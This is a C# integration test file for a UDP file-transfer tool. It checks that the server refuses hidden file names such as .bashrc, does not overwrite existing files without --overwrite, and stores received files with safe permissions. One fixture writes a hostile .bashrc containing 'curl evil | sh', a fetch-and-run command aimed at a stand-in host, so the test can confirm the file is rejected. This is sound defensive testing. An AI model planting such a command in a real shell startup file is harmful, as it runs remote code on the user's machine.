using System.Globalization;
using Udpx.Cli;
using Udpx.Common;
using Udpx.Protocol;
using Udpx.Tests.Integration;
using Udpx.Tests.Support;

namespace Udpx.Tests.Reliability;

/// <summary>
/// The safe defaults from outside, with the real binary: `udpx serve` started in a home folder stores
/// into ./udpx-received, refuses ".bashrc", and never replaces an existing file unless --overwrite; the
/// client exits 1 with the reason on one line. Bytes and exit codes, never timings.
/// </summary>
[System.Runtime.Versioning.UnsupportedOSPlatform("windows")]
public sealed class ServeDefaultsTests : IDisposable
{
    private static readonly TimeSpan Patience = TimeSpan.FromSeconds(60);

    private readonly TempFolder _folder = new();

    public ServeDefaultsTests()
    {
        Directory.CreateDirectory(_folder.File("home"));
        Directory.CreateDirectory(_folder.File("client"));
    }

    private string Home => _folder.File("home");

    [Fact]
    public async Task Started_in_a_home_folder_without_out_it_refuses_bashrc_and_stores_only_into_udpx_received()
    {
        byte[] original = "export PATH=/usr/bin\n"u8.ToArray();
        File.WriteAllBytes(Path.Combine(Home, ".bashrc"), original);
        string hostile = _folder.Write(Path.Combine("client", ".bashrc"), "curl evil | sh\n"u8.ToArray());
        byte[] bytes = Simulation.RandomFile(70_000, 11);
        string plain = _folder.Write(Path.Combine("client", "notes.txt"), bytes);

        using var server = UdpxChild.StartIn(Home, "serve", "--bind", "127.0.0.1:0", "--json", "--headless");
        var listening = await server.WaitForEventAsync(e => e.Event == "listening", Patience);
        string received = Path.Combine(Home, ServeVerb.DefaultFolder);
        Assert.Equal(received, listening.Folder);
        Assert.Equal((true, false), (listening.Created, listening.Overwrite));
        string to = "127.0.0.1:" + listening.Address![(listening.Address!.LastIndexOf(':') + 1)..];

        var (exit, stdout, stderr) = await UdpxProcess.RunAsync(Patience, "send", hostile, "--to", to, "--headless");

        Assert.Equal(ExitCodes.TransferFailed, exit);
        string line = Assert.Single(Lines(stdout + stderr), l => l.Contains("FAILED", StringComparison.Ordinal));
        Assert.Equal(".bashrc -> " + to + ": FAILED: " + to + ": name rejected: hidden name (starts with \".\"); the server accepts such names only with --allow-hidden", line);
        Assert.Equal(original, File.ReadAllBytes(Path.Combine(Home, ".bashrc")));
        Assert.Equal([".bashrc", ServeVerb.DefaultFolder], Entries(Home));
        Assert.Empty(Entries(received));

        // An ordinary name lands in udpx-received, 0644 under the umask, and nowhere else.
        var stored = await UdpxProcess.RunAsync(Patience, "send", plain, "--to", to, "--headless");
        Assert.Equal(ExitCodes.Ok, stored.ExitCode);
        Assert.Equal(bytes, File.ReadAllBytes(Path.Combine(received, "notes.txt")));
        Assert.Equal([".bashrc", ServeVerb.DefaultFolder], Entries(Home));
        Assert.Equal(["notes.txt"], Entries(received));
        Assert.Equal(UnixFileMode.None, File.GetUnixFileMode(Path.Combine(received, "notes.txt")) & (UnixFileMode.GroupWrite | UnixFileMode.OtherWrite | UnixFileMode.UserExecute));
        Assert.True(File.GetUnixFileMode(Path.Combine(received, "notes.txt")).HasFlag(UnixFileMode.UserRead | UnixFileMode.UserWrite));
    }

    [Fact]
    public async Task An_existing_file_is_kept_without_overwrite_and_replaced_with_it()
    {
        string out_ = _folder.File("out");
        Directory.CreateDirectory(out_);
        byte[] old = "the server's own copy"u8.ToArray();
        File.WriteAllBytes(Path.Combine(out_, "report.pdf"), old);
        byte[] bytes = Simulation.RandomFile(150_000, 12);
        string source = _folder.Write(Path.Combine("client", "report.pdf"), bytes);

        using (var keeping = UdpxChild.StartIn(_folder.Path, "serve", "--bind", "127.0.0.1:0", "--out", out_, "--json", "--headless"))
        {
            string to = await AddressOf(keeping);
            var (exit, stdout, stderr) = await UdpxProcess.RunAsync(Patience, "send", source, "--to", to, "--headless");

            Assert.Equal(ExitCodes.TransferFailed, exit);
            string line = Assert.Single(Lines(stdout + stderr), l => l.Contains("FAILED", StringComparison.Ordinal));
            Assert.Equal("report.pdf -> " + to + ": FAILED: " + to + ": " + RejectReasonText.Describe(RejectReason.Exists), line);
            Assert.Equal(old, File.ReadAllBytes(Path.Combine(out_, "report.pdf")));
            Assert.Equal(["report.pdf"], Entries(out_));
            var refused = await keeping.WaitForEventAsync(e => e.Event == "refused", Patience);
            Assert.Equal("report.pdf", refused.Name);
        }

        using var replacing = UdpxChild.StartIn(_folder.Path, "serve", "--bind", "127.0.0.1:0", "--out", out_, "--overwrite", "--json", "--headless");
        string again = await AddressOf(replacing);
        var replaced = await UdpxProcess.RunAsync(Patience, "send", source, "--to", again, "--headless");

        Assert.Equal(ExitCodes.Ok, replaced.ExitCode);
        Assert.Equal(bytes, File.ReadAllBytes(Path.Combine(out_, "report.pdf")));
        Assert.Equal(["report.pdf"], Entries(out_));
    }

    private static async Task<string> AddressOf(UdpxChild server)
    {
        var listening = await server.WaitForEventAsync(e => e.Event == "listening", Patience);
        string address = listening.Address!;
        return "127.0.0.1:" + int.Parse(address[(address.LastIndexOf(':') + 1)..], CultureInfo.InvariantCulture).ToString(CultureInfo.InvariantCulture);
    }

    private static string[] Lines(string text) => text.Split('\n', StringSplitOptions.RemoveEmptyEntries);

    private static string[] Entries(string folder) =>
        [.. Directory.EnumerateFileSystemEntries(folder).Select(p => Path.GetFileName(p)!).Order(StringComparer.Ordinal)];

    public void Dispose() => _folder.Dispose();
}
